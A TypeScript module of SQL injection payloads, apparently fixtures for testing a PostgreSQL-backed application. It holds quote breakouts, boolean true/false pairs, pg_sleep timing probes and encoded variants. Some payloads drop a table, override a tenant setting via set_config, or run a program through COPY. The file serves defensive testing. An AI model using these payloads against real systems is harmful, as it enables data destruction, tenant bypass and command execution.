/** Two texts made of a good value, of which an injection would show the one as true and the other as false. */
type Pair = Record<'yes' | 'no', (value: string) => string>

/** What breaks out of a text, a number, an identifier or a comment of SQL. Short ones fit where ids are expected. */
export const breakouts = [
  "'",
  "''",
  '"',
  '\\',
  "\\'",
  "'--",
  "';--",
  '$$',
  "'||'",
  "')--",
  '%',
  '_',
  ';',
  "' OR 1=1--",
  "1' ORDER BY 99--",
  "' UNION SELECT null--",
  "' UNION SELECT null,null,null,null,null--",
  "'; drop table business.visit--",
  "'; set app.business = '1'--",
  "' || set_config('app.business', '1', false) || '",
  "' AND 1=cast(version() as int)--",
  "' AND extractvalue(1, concat(0x7e, version()))--",
  "'; copy (select 1) to program 'true'--",
  "E'\\\\x27'",
  '\u02bc OR 1=1--',
  '\uff07 OR 1=1--',
  '%27%20OR%201%3D1--',
  '{"$ne":null}',
  '*)(objectClass=*',
] as const

export const pairs: readonly Pair[] = [
  { yes: () => "' OR 1=1--", no: () => "' OR 1=2--" },
  { yes: () => "'OR''='", no: () => "'OR''='x" },
  { yes: (value) => `${value}' AND '1'='1`, no: (value) => `${value}' AND '1'='2` },
  { yes: (value) => `${value}' AND 1=1--`, no: (value) => `${value}' AND 1=2--` },
  { yes: (value) => `${value} AND 1=1`, no: (value) => `${value} AND 1=2` },
  { yes: (value) => `${value}') AND ('1'='1`, no: (value) => `${value}') AND ('1'='2` },
]

/** Seconds that PostgreSQL would sleep if any of these were understood. */
export const SLEEP = 5
export const sleepers = (value: string) => [
  `'||pg_sleep(${SLEEP})--`,
  `${value}'; select pg_sleep(${SLEEP})--`,
  `${value}' AND (select 1 from pg_sleep(${SLEEP})) = 1--`,
  `${value}) AND 1=(select 1 from pg_sleep(${SLEEP}))--`,
  `1; select pg_sleep(${SLEEP})`,
]
